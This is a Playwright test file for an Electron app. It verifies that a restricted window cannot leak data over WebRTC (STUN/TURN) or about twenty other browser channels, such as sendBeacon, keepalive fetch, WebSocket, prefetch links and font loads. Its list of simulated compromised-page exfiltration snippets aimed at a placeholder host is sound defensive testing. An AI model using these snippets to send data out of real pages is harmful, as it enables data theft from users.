// Ways for data to leave the window (S6) besides the policy probes of security.spec.ts: WebRTC over STUN and TURN, over
// UDP and TCP, which neither the policy nor the request handler covers, and all other elements and calls of the
// platform that open a connection. None may reach a trap that a window without the restrictions reaches.
import { createServer } from 'node:http'
import type { Page } from '@playwright/test'
import { openControlWindow } from '../../support/electron/application.ts'
import { expect, test } from '../../support/electron/fixtures.ts'
import { listenHere } from '../../support/processes/listen.ts'
import { type NetworkTrap, startNetworkTrap } from '../../support/processes/network-trap.ts'

/** Each kind of server that a peer connection contacts. */
const KINDS = {
  'STUN by UDP': (port: number) => `stun:127.0.0.1:${port}`,
  'TURN by UDP': (port: number) => `turn:127.0.0.1:${port}?transport=udp`,
  'TURN by TCP': (port: number) => `turn:127.0.0.1:${port}?transport=tcp`,
} as const

/** Lets the page gather ICE candidates from that server, until it is complete or for three seconds. */
function gatherWaysOut(page: Page, urls: string): Promise<void> {
  return page.evaluate(async (address) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: address, username: 'leads', credential: 'leads' }],
    })
    connection.createDataChannel('leads')
    const complete = new Promise<void>((resolve) => {
      connection.onicegatheringstatechange = () => {
        if (connection.iceGatheringState === 'complete') resolve()
      }
    })
    await connection.setLocalDescription()
    await Promise.race([complete, new Promise<void>((resolve) => setTimeout(resolve, 3_000))])
    connection.close()
  }, urls)
}

test('no WebRTC leaves the window, by UDP or by TCP (S6)', async ({ launch }) => {
  const { app, page } = await launch()
  await expect(page.getByLabel('Endereço da API')).toBeVisible()
  const control = await openControlWindow(app)
  const reached: string[] = []
  for (const [kind, addressOf] of Object.entries(KINDS)) {
    const [trap, other] = [await startNetworkTrap(), await startNetworkTrap()]
    try {
      await Promise.all([
        gatherWaysOut(page, addressOf(trap.port)),
        gatherWaysOut(control, addressOf(other.port)),
      ])
      expect([kind, trap.caught()]).toEqual([kind, { datagrams: 0, connections: 0 }])
      const { datagrams, connections } = other.caught()
      if (datagrams + connections > 0) reached.push(kind)
    } finally {
      await trap.close()
      await other.close()
    }
  }
  // Control: the same script leaves a window without the restrictions, with each kind.
  expect(reached).toEqual(Object.keys(KINDS))
})

/**
 * Scripts of a compromised page by name; `HOST` stands for `127.0.0.1:port`. `dns-prefetch` is not among them: it opens
 * no connection to a host and cannot be refused (docs/security.md).
 */
const SCRIPTS = {
  WebTransport: `const transport = new WebTransport('https://HOST/'); await transport.ready`,
  WebSocket: `new WebSocket('ws://HOST/')`,
  EventSource: `new EventSource('http://HOST/')`,
  beacon: `navigator.sendBeacon('http://HOST/', 'leads')`,
  'fetch that outlives the page': `await fetch('http://HOST/', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'leads' })`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('POST', 'http://HOST/'); request.send('leads')`,
  'module import': `await import('http://HOST/module.js')`,
  'ping of a link': `const link = add('a', { href: '#there', ping: 'http://HOST/' }); link.click()`,
  preconnect: `add('link', { rel: 'preconnect', href: 'http://HOST/' })`,
  prefetch: `add('link', { rel: 'prefetch', href: 'http://HOST/' })`,
  preload: `add('link', { rel: 'preload', as: 'image', href: 'http://HOST/' })`,
  modulepreload: `add('link', { rel: 'modulepreload', href: 'http://HOST/' })`,
  'speculation rules': `add('script', { type: 'speculationrules' }, '{"prefetch":[{"source":"list","urls":["http://HOST/"],"eagerness":"immediate"}]}')`,
  icon: `add('link', { rel: 'icon', href: 'http://HOST/icon.png' })`,
  video: `add('video', { src: 'http://HOST/', preload: 'auto' }).load()`,
  embed: `add('embed', { src: 'http://HOST/', type: 'text/html' })`,
  'image of an SVG': `add('div').innerHTML = '<svg><image href="http://HOST/" width="9" height="9"/></svg>'`,
  'button with a picture': `add('input', { type: 'image', src: 'http://HOST/' })`,
  'background of a style': `add('div').style.backgroundImage = 'url(http://HOST/)'`,
  font: `await new FontFace('probe', 'url(http://HOST/)').load()`,
} as const

/** Electron 33 follows these in no window, so they prove nothing there. */
const FOLLOWED_NOWHERE = ['icon', 'preconnect']

/** Scripts that run at the same time. A page holds back further pictures while ten of them wait for an answer. */
const AT_ONCE = 5

/** Runs a script in the page. An exception counts as a refusal. */
function runScript(page: Page, script: string, host: string): Promise<void> {
  return page.evaluate(
    async (source) => {
      const add = (tag: string, attributes: Record<string, string> = {}, text = '') => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        element.textContent = text
        document.body.append(element)
        return element
      }
      const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor
      const run = AsyncFunction('add', source)(add).catch(() => undefined)
      await Promise.race([run, new Promise((resolve) => setTimeout(resolve, 1_500))])
    },
    script.replaceAll('HOST', host),
  )
}

/** Serves a page without a policy, from an origin that the platform treats as secure. */
async function startPlainPage() {
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html')
    response.end('<title>control</title>')
  })
  return listenHere(server)
}

const touched = (trap: NetworkTrap) => trap.caught().datagrams + trap.caught().connections > 0

/** Runs a script in the window and in the control, each with a trap of its own, and returns which trap it reached. */
async function tryWayOut(page: Page, control: Page, script: string) {
  const [trap, other] = [await startNetworkTrap(), await startNetworkTrap()]
  try {
    await Promise.all([
      runScript(page, script, `127.0.0.1:${trap.port}`),
      runScript(control, script, `127.0.0.1:${other.port}`),
    ])
    const isReached = await expect
      .poll(() => touched(other), { timeout: 3_000 })
      .toBe(true)
      .then(() => true)
      .catch(() => false)
    return { isReached, hasLeft: touched(trap) }
  } finally {
    await trap.close()
    await other.close()
  }
}

test('nothing else that the platform offers leaves the window (S6)', async ({ launch }) => {
  const { app, page } = await launch()
  await expect(page.getByLabel('Endereço da API')).toBeVisible()
  const plain = await startPlainPage()
  const control = await openControlWindow(app)
  await control.goto(plain.origin)
  const reached: string[] = []
  const left: string[] = []
  const waiting = Object.entries(SCRIPTS)
  try {
    while (waiting.length > 0) {
      const tried = waiting
        .splice(0, AT_ONCE)
        .map(async ([name, script]) => ({ name, ...(await tryWayOut(page, control, script)) }))
      for (const { name, isReached, hasLeft } of await Promise.all(tried)) {
        if (isReached) reached.push(name)
        if (hasLeft) left.push(name)
      }
    }
  } finally {
    await plain.close()
  }
  expect(left).toEqual([])
  // Control: in a window without the restrictions each script reaches the trap.
  const proven = Object.keys(SCRIPTS).filter((name) => !FOLLOWED_NOWHERE.includes(name))
  expect(reached).toEqual(proven)
})
